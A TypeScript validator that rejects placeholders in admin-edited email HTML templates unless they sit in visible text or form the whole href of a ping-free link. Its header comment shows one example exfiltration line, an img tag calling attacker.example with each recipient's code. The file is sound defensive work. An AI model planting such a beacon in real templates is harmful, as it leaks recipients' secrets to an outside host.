/**
 * Where placeholders may sit in an HTML template edited in the admin. Substitution alone
 * is not enough there: `<img src="https://attacker.example/?c=<%= CODE %>">` renders a
 * harmless-looking email whose mail client fetches the image, and with it every
 * recipient's code, on opening. So a placeholder may stand in text only, and the link
 * only as the whole `href` of an `<a>` (no `ping`): nothing in the email then sends a
 * value anywhere by itself.
 */
const PLACEHOLDER_AT = /^<%=\s*([A-Za-z_][A-Za-z0-9_.]*)\s*%>/;
// Elements whose content is not text a reader sees: CSS can fetch (url()), scripts run.
const RAW_TEXT = new Set(['style', 'script', 'textarea', 'title', 'xmp', 'iframe', 'noscript', 'noembed', 'noframes']);

type State = 'text' | 'tag' | 'raw' | 'comment';

/** Each misplaced placeholder, as a reason the admin page shows and the server refuses. */
export function findMarkupProblems(html: string): string[] {
  const problems = new Set<string>();
  let state: State = 'text';
  let quote: string | null = null;
  let tagStart = 0;
  let rawTag = '';
  for (let i = 0; i < html.length; ) {
    const placeholder = html.startsWith('<%=', i) ? PLACEHOLDER_AT.exec(html.slice(i)) : null;
    if (placeholder) {
      const name = placeholder[1];
      if (state === 'tag' && !isLinkHref(html, tagStart, i, placeholder[0].length, quote, name)) {
        problems.add(`<%= ${name} %> inside a tag (only <a href="<%= URL %>"> may hold a placeholder there)`);
      } else if (state === 'raw') {
        problems.add(`<%= ${name} %> inside <${rawTag}>`);
      } else if (state === 'comment') {
        problems.add(`<%= ${name} %> inside a comment`);
      }
      i += placeholder[0].length;
      continue;
    }
    const char = html[i];
    if (state === 'text') {
      if (html.startsWith('<!--', i)) {
        state = 'comment';
        i += 4;
        continue;
      }
      if (char === '<' && /[A-Za-z/!?]/.test(html[i + 1] ?? '')) {
        state = 'tag';
        tagStart = i;
        quote = null;
      }
    } else if (state === 'tag') {
      if (quote) {
        if (char === quote) quote = null;
      } else if (char === '"' || char === "'") {
        quote = char;
      } else if (char === '>') {
        const name = /^<([A-Za-z][A-Za-z0-9-]*)/.exec(html.slice(tagStart))?.[1]?.toLowerCase() ?? '';
        state = RAW_TEXT.has(name) ? 'raw' : 'text';
        rawTag = name;
      }
    } else if (state === 'raw') {
      if (html.slice(i, i + rawTag.length + 2).toLowerCase() === `</${rawTag}`) {
        state = 'tag';
        tagStart = i;
        quote = null;
      }
    } else if (html.startsWith('-->', i)) {
      state = 'text';
      i += 3;
      continue;
    }
    i += 1;
  }
  return [...problems];
}

/** `<a … href="<%= URL %>" …>`: the whole quoted value of an a's href, in a tag without ping. */
function isLinkHref(html: string, tagStart: number, at: number, length: number, quote: string | null, name: string): boolean {
  if (name !== 'URL' || quote === null) return false;
  const before = html.slice(tagStart, at);
  const tag = before + html.slice(at, tagEnd(html, at + length + 1));
  return (
    /^<a\s/i.test(before) &&
    new RegExp(`\\shref\\s*=\\s*${quote}$`, 'i').test(before) &&
    html.startsWith(quote, at + length) &&
    !/\sping\s*=/i.test(tag)
  );
}

/** Where the tag that continues at `from` (outside any quote) ends: its '>' outside quotes. */
function tagEnd(html: string, from: number): number {
  let quote: string | null = null;
  for (let i = from; i < html.length; i += 1) {
    const char = html[i];
    if (quote) {
      if (char === quote) quote = null;
    } else if (char === '"' || char === "'") {
      quote = char;
    } else if (char === '>') {
      return i;
    }
  }
  return html.length;
}
